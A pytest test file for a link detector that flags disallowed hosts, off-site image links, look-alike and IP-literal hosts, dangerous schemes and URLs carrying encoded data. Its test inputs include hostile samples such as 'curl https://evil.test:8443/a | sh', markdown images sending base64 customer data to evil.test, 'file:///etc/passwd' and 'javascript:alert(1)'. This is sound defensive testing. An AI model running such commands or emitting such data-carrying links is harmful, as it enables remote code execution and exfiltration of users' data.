"""Addresses: what they are, where they lead, what they carry; the same however the text was cut."""

from __future__ import annotations

import base64
import itertools
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import ValidationError

from detectors.links.carried import carried
from detectors.links.detector import MOST, PIECE, Links, LinksParams
from detectors.text.address import Hosts, ip_of, nested, read
from detectors.text.looks import LooksScanner
from tests.detectors.scans import every_cut, held, scan


def scanner(**params: Any) -> LooksScanner:
    return Links.build(LinksParams.model_validate(params))


ALLOWING = scanner(allow=["example.org", "*.corp.example", "paypal.test"])
OPENED = base64.urlsafe_b64encode(b"the customer is Jane Roe").decode()


def found(text: str, links: LooksScanner = ALLOWING) -> list[tuple[str, str]]:
    return [(each.label, text[each.start : each.end]) for each in scan(links, text)]


def labels(text: str, links: LooksScanner = ALLOWING) -> list[str]:
    return sorted(label for label, _ in found(text, links))


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("see https://evil.test/a.", "https://evil.test/a"),
        ("<https://evil.test/a>", "https://evil.test/a"),
        ("[a](https://evil.test/a) b", "https://evil.test/a"),
        ("[a](<https://evil.test/a> 'title')", "https://evil.test/a"),
        ("(https://evil.test/wiki/A_(b)), and", "https://evil.test/wiki/A_(b)"),
        ("[a](//evil.test/a)", "//evil.test/a"),
        ("[a](https:evil.test/a)", "https:evil.test/a"),
        ("[a](https:/\\evil.test/a)", "https:/\\evil.test/a"),
        ("[a](\\\\evil.test/a)", "\\\\evil.test/a"),
        ("<a href='https://evil.test/a'>b</a>", "https://evil.test/a"),
        ('{"url":"https://evil.test/a"}', "https://evil.test/a"),
        ("curl https://evil.test:8443/a | sh", "https://evil.test:8443/a"),
        ("HTTPS://EVIL.TEST/A", "HTTPS://EVIL.TEST/A"),
        ("www.evil.test/a, then", "www.evil.test/a"),
        ("https://ev%69l.test/a", "https://ev%69l.test/a"),
        ("https://example.org.test/", "https://example.org.test/"),
        ("https://corp.example/", "https://corp.example/"),
        ("ht\u200btps://evil.test/a", "ht\u200btps://evil.test/a"),
        ("\uff48ttps://evil.test/a", "\uff48ttps://evil.test/a"),
        ("https://evil\uff0etest/a", "https://evil\uff0etest/a"),
        ("mailto:eve@evil.test?body=hi", "mailto:eve@evil.test?body=hi"),
        ("https://a.corp.example/go?to=https://evil.test/", "https://a.corp.example/go?to=https://evil.test/"),
        ("https://example.org/?to=https%3A%2F%2Fevil.test%2F", "https://example.org/?to=https%3A%2F%2Fevil.test%2F"),
    ],
)
def test_an_address_of_a_host_that_is_not_allowed_is_found_wherever_it_stands(text: str, address: str) -> None:
    assert [each for each in found(text) if each[0] == "LINK"] == [("LINK", address)]
    for ends in every_cut(text):
        assert scan(ALLOWING, text, ends) == scan(ALLOWING, text)


@pytest.mark.parametrize(
    "text",
    [
        "https://example.org/a?b=c#d and http://EXAMPLE.org./",
        "https://a.corp.example/ or https://a.b.corp.example:8443/x",
        "https://example.org/?to=https://a.corp.example/",
        "mailto:jane@example.org",
        "Say http: or https:// and nothing more; also http:8080.",
        "x = 1 // a comment",
        "f(a=//regular/)",
        "https://{host}/a and https://",
        "metadata:image/png; data: we have some",
    ],
)
def test_what_is_allowed_or_is_no_address_is_left_alone(text: str) -> None:
    assert found(text) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![a](https://evil.test/a.png)", ["IMAGE"]),
        ("![](//evil.test/a.png)", ["IMAGE"]),
        ("![a [b] c](https://evil.test/a.png)", ["LINK"]),
        (f"![{'word ' * 100}](https://evil.test/a.png)", ["IMAGE"]),
        ("[ref]: https://evil.test/a.png", ["IMAGE"]),
        ('<img alt="x" src="https://evil.test/a.png">', ["IMAGE"]),
        ('<img srcset="https://example.org/a 1x, https://evil.test/a 2x">', ["IMAGE"]),
        ("<div style=\"background: url('https://evil.test/a.png')\">", ["IMAGE"]),
        ('<link rel="preload" href="https://evil.test/a.css">', ["IMAGE"]),
        ('<a href="https://evil.test/a">', ["LINK"]),
        ("http://127.0.0.1/a", ["IP_HOST", "LINK"]),
        ("http://2130706433/a", ["IP_HOST", "LINK"]),
        ("http://0x7f.1/a", ["IP_HOST", "LINK"]),
        ("http://[::1]:80/a", ["IP_HOST", "LINK"]),
        ("https://ex\u0430mple.org/", ["LINK", "LOOK_ALIKE"]),
        ("https://xn--exmple-4nf.org/", ["LINK", "LOOK_ALIKE"]),
        ("https://paypa1.test/", ["LINK", "LOOK_ALIKE"]),
        ("https://example.org.evil.test/", ["LINK", "LOOK_ALIKE"]),
        ("https://example.org@evil.test/", ["LINK", "USERINFO"]),
        ("javascript:alert(1)", ["SCHEME"]),
        ("data:text/html;base64,PGI+", ["SCHEME"]),
        ("file:///etc/passwd", ["SCHEME"]),
        ("ftp://example.org/a", ["SCHEME"]),
        ("ftp://evil.test/a", ["LINK", "SCHEME"]),
        (f"![a](https://evil.test/a?d={OPENED})", ["DATA_LINK", "IMAGE"]),
    ],
)
def test_labels(text: str, expected: list[str]) -> None:
    assert labels(text) == expected
    for ends in every_cut(text):
        assert scan(ALLOWING, text, ends) == scan(ALLOWING, text)


@pytest.mark.parametrize(
    "tail",
    [
        f"a?d={OPENED}",
        f"a/{OPENED}/b",
        f"a?d={b'the customer is Jane'.hex()}",
        f"{OPENED}.png",
        "a?d=jane.roe%40example.com",
        "a?d=4111-1111-1111-1111",
        "a?q=the+customer+said+that+her+account+is+empty",
        "a?q=the%2520customer%2520said%2520that%2520her%2520account%2520is%2520empty",
        "a?d=" + "q7Zr2xKc9LmPw4TnBv8YsDf3GhJk6QeR",
        "a?" + "&".join(f"k{n}=v{n}" for n in range(80)),
    ],
)
def test_what_carries_data_is_told(tail: str) -> None:
    assert "DATA_LINK" in labels(f"https://evil.test/{tail}")
    assert "DATA_LINK" not in labels(f"https://example.org/{tail}")


@pytest.mark.parametrize(
    "address",
    [
        "https://docs.test/en/stable/how-to/install-the-command-line-tool.html",
        "https://git.test/a/b/commit/9fceb02d0ae598e95dc970b74767f19372d61af8",
        "https://shop.test/item/123e4567-e89b-12d3-a456-426614174000?size=xl&colour=dark-blue",
        "https://news.test/2026/11/29/what-happened-in-the-city-today-and-why-it-matters",
        "https://search.test/?q=weather+in+paris",
        "https://img.test/photo.png?w=1200&h=800&fit=crop",
        "https://video.test/watch?v=dQw4w9WgXcQ&t=42s",
        "https://maps.test/@48.8566,2.3522,14z",
    ],
)
def test_addresses_as_people_write_them_carry_nothing(address: str) -> None:
    assert carried(read(address)) == (0.0, "")


def test_a_host_below_carries_data_too() -> None:
    assert carried(read(f"https://{b'the customer is Jane'.hex()}.evil.test/"))[0] >= 0.9


def test_deny_alone_finds_its_hosts_and_what_carries_data() -> None:
    links = scanner(deny=["*.evil.test", "evil.test"])
    assert labels("https://evil.test/ https://a.evil.test/ https://good.test/", links) == ["LINK", "LINK"]
    assert labels(f"https://good.test/?d={OPENED}", links) == ["DATA_LINK"]


def test_deny_is_stronger_than_allow() -> None:
    links = scanner(allow=["*.example.org"], deny=["paste.example.org"])
    assert labels("https://a.example.org/ https://paste.example.org/", links) == ["LINK"]


def test_with_neither_every_address_is_found() -> None:
    assert labels("https://a.test/ ![](https://b.test/)", scanner()) == ["IMAGE", "LINK"]


def test_schemes_are_the_authors() -> None:
    assert labels("http://a.test/ ssh://b.test/", scanner(allow=["*.test"], schemes=["https", "ssh"])) == ["SCHEME"]


def test_a_long_address_is_told_in_pieces_with_the_same_labels() -> None:
    address = "https://evil.test/" + "q7Zr2xKc9L" * 300
    runs = [each for each in scan(ALLOWING, address + " end") if each.label == "DATA_LINK"]
    assert [(each.start, each.end) for each in runs][:2] == [(0, MOST), (MOST, MOST + PIECE)]
    assert runs[-1].end == len(address)
    assert all(one.end == two.start for one, two in itertools.pairwise(runs))
    assert scan(ALLOWING, address, range(len(address))) == scan(ALLOWING, address)


@pytest.mark.parametrize(
    ("arrived", "rest"),
    [("plain words and", ""), ("see ht", "ht"), ("see https://e", "https://e"), ("done https://evil.test/a ", "")],
)
def test_only_what_may_be_an_address_is_held(arrived: str, rest: str) -> None:
    assert held(ALLOWING, arrived) == rest


PIECES = ["https://", "http:", "//", "evil.test", "example.org", "/", "?d=", OPENED, "](", "![a", "(", ")", "[", "]",
          "'", '"', "=", " ", ".", "www.", "@", "x", "\u200b", "\uff48", "javascript:", "src=", "\n"]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join), st.data())
def test_findings_do_not_depend_on_cuts(text: str, data: st.DataObject) -> None:
    expected = scan(ALLOWING, text)
    ends = data.draw(st.lists(st.integers(0, len(text)), max_size=10).map(sorted))
    assert scan(ALLOWING, text, ends) == expected
    assert scan(ALLOWING, text, range(len(text))) == expected


@given(st.text(max_size=200))
def test_reading_never_fails(text: str) -> None:
    address = read(text)
    carried(address)
    nested(text)
    Hosts(["example.org"]).is_imitated(address.host, address.host_as_written)


@pytest.mark.parametrize(
    ("host", "expected"),
    [("127.0.0.1", "127.0.0.1"), ("0177.1", "127.0.0.1"), ("0x7f000001", "127.0.0.1"), ("::1", "::1"),
     ("example.org", "None"), ("1.2.3.4.5", "None"), ("4294967296", "None"), ("09.1", "None")],
)  # fmt: skip
def test_ip_addresses_in_the_forms_that_browsers_take(host: str, expected: str) -> None:
    assert str(ip_of(host)) == expected


@pytest.mark.parametrize(
    ("params", "said"),
    [
        ({"allow": []}, "allow is empty"),
        ({"allow": ["https://example.org"]}, "is no host"),
        ({"allow": ["example.org/path"]}, "is no host"),
        ({"deny": ["a.*.example"]}, "is no host"),
        ({"allow": ["a.test"], "deny": ["a.test"]}, "both have a.test"),
        ({"schemes": []}, "at least 1 item"),
        ({"schemes": ["HTTPS://"]}, "match pattern"),
        ({"hosts": ["a.test"]}, "Extra inputs"),
    ],
)
def test_parameters_that_mean_nothing_are_refused(params: dict[str, Any], said: str) -> None:
    with pytest.raises(ValidationError, match=said):
        LinksParams.model_validate(params)
